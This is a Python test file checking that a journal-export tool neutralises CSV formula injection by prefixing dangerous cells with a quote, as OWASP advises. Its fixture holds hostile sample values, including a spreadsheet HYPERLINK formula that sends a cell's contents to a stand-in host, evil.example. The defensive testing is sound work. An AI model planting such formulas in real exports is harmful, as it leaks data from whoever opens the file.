"""A CSV export never hands a spreadsheet a formula (issue 26, item 11): a cell starting with
= + - @, a tab or a carriage return is written with a single quote in front (OWASP's rule for
CSV injection); JSON keeps every value as it is."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from journal_helpers import Clock, verdict

from adjudicator.cli import main
from adjudicator.journal import Journal, export_journal

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
HOSTILE = {  # field -> what an honest-looking station could put there
    "station": LINK, "table": "+12", "round": "-3", "rule": "@SUM(A1:A9)",
    "print_reason": "\t=1+1",
}


@pytest.fixture
def hostile(tmp_path):
    path = tmp_path / "j.db"
    with Journal.open(path, clock=Clock()) as j:
        j.record(verdict("cat", "xu"), station=HOSTILE["station"], mode="station",
                 table=HOSTILE["table"], round=HOSTILE["round"], rule=HOSTILE["rule"])
        j.record(verdict("qi"), station="Desk, =2", mode="station", table="7")  # comma inside
        j.record(verdict("za"), station="Desk 1", mode="station", table="-")
        j.set_print_status(1, "failed", HOSTILE["print_reason"])
    return str(path)


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_formula_in_any_cell_is_written_as_text(hostile):
    rows = cells(export_journal(hostile, "csv"))
    first = rows[0]
    assert first["station"] == "'" + LINK
    assert (first["table"], first["round"], first["rule"]) == ("'+12", "'-3", "'@SUM(A1:A9)")
    assert first["print_reason"] == "'\t=1+1"
    assert rows[1]["station"] == "Desk, =2"  # not a cell's start: as it was
    assert rows[2]["table"] == "'-"
    for row in rows:  # no cell a spreadsheet would run
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert first["words"] == "CAT XU" and first["time_utc"].startswith("2026-")  # untouched


def test_the_cli_export_to_a_file_is_neutralised_too(hostile, tmp_path):
    out = tmp_path / "challenges.csv"
    done = CliRunner().invoke(main, ["journal", "export", hostile, "-o", str(out)])
    assert done.exit_code == 0, done.output
    assert cells(out.read_text(encoding="utf-8"))[0]["station"] == "'" + LINK
    assert LINK not in out.read_text(encoding="utf-8").replace("'" + LINK, "")


def test_json_keeps_the_values_as_recorded(hostile):
    data = json.loads(export_journal(hostile, "json"))
    assert (data[0]["station"], data[0]["table"], data[0]["print_reason"]) == (
        LINK, "+12", "\t=1+1")


def test_a_formula_far_into_a_long_export_is_caught_and_the_rest_kept(tmp_path):
    """Formulas are looked for a group of lines at a time: one in a later group, or on a
    group's first line, is still caught, and the lines around it are written as before."""
    path = tmp_path / "long.db"
    hostile_at = {1, 513, 700, 1100}
    with Journal.open(path, clock=Clock()) as j:
        j.record_many([(verdict("qi"), dict(station=LINK if i in hostile_at else f"Desk {i}",
                                            mode="station", table=str(i)))
                       for i in range(1, 1201)])
    rows = cells(export_journal(str(path), "csv"))
    assert len(rows) == 1200
    for i, row in enumerate(rows, 1):
        assert row["station"] == ("'" + LINK if i in hostile_at else f"Desk {i}")
        assert row["table"] == str(i)
